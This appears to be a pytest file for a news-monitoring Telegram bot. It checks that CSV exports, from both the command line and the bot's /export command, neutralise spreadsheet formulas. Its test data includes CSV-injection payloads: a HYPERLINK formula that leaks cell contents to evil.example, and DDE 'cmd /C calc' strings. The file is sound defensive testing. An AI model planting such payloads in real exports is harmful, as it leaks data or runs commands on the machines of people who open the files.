"""CSV exports neutralise spreadsheet formulas from feed text (issue 16, point 6; OWASP).

Both twins: `/export` of the real `main.py run` against the fake Bot API, and `main.py
export`. Before the fix a title ``=HYPERLINK(…)`` was written as is.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from bot.core.matching import Hit
from bot.core.reports import alerts_csv, csv_cell
from bot.core.watchlist import Priority
from storage.db import open_database
from storage.repository import AlertDraft, NewItem, Repository
from tests.bot_process import RunningBot
from tests.conftest import TOKEN, main_env, run_main
from tests.fakes.telegram_api import FakeTelegramAPI

pytestmark = pytest.mark.slow  # main.py export and main.py run

ADMIN = 7101
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Mali news")',
    "+cmd|' /C calc'!A0 Mali",
    "@SUM(1+1)*cmd|' /C calc'!A0 Mali",
    "-2+3 Mali",
    "\t=1+1 Mali",
    "\r=1+1 Mali",
]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "' x"),
        ("a\r\nb", "a\nb"),
        ("Mali = news", "Mali = news"),
        ("", ""),
        (-5, -5),
        (3.5, 3.5),
    ],
)
def test_csv_cell(value: str | float, expected: str | float) -> None:
    assert csv_cell(value) == expected


def _seed(db_path: Path, now: datetime) -> None:
    repo = Repository(open_database(db_path))
    for i, title in enumerate(HOSTILE):
        link = f"https://news.example.org/f{i}"
        draft = AlertDraft(
            source="=EVIL()",
            title=title,
            link=link,
            summary="@SUM(A1:A9)",
            published=now - timedelta(hours=1),
            entities=("Mali",),
            matches=(Hit("Mali", "Mali", "title"),),
            priority=Priority.NORMAL,
            chats=(),
        )
        item = NewItem(f"f{i}", link, "https://feeds.example.org/x", title, link, now, alert=draft)
        repo.alerts.store_feed_items("https://feeds.example.org/x", [item], now, None, ())
    repo.db.conn.close()


def _check(text: str) -> None:
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == len(HOSTILE)
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    assert {r["title"] for r in rows} == {"'" + t.replace("\r", " ") for t in HOSTILE}
    assert alerts_csv([]).count("\n") == 1  # the header alone


def test_cli_and_bot_exports_carry_no_formula(tmp_path: Path) -> None:
    now = datetime.now(UTC)
    _seed(tmp_path / "newswatch.db", now)
    env = main_env(tmp_path / "newswatch.db")
    feeds = tmp_path / "feeds.txt"
    feeds.write_text("", encoding="utf-8")
    env["NEWSWATCH_FEEDS"] = str(feeds)
    cli = run_main(["export"], env)
    assert cli.returncode == 0, cli.stderr
    _check(cli.stdout)
    with FakeTelegramAPI(TOKEN) as api:
        env.update(
            TELEGRAM_BOT_TOKEN=api.state.token,
            TELEGRAM_API_URL=api.base_url,
            NEWSWATCH_ADMIN_IDS=str(ADMIN),
        )
        bot = RunningBot(env)
        try:
            assert api.wait_for(lambda s: bool(s.commands), timeout=40), bot.output()
            api.push_message("/export 7d", chat_id=ADMIN, user_id=ADMIN)
            assert api.wait_for(lambda s: bool(s.documents), timeout=30), bot.output()
            _check(api.state.documents[-1]["bytes"].decode("utf-8"))
        finally:
            assert bot.stop() == 0, bot.output()
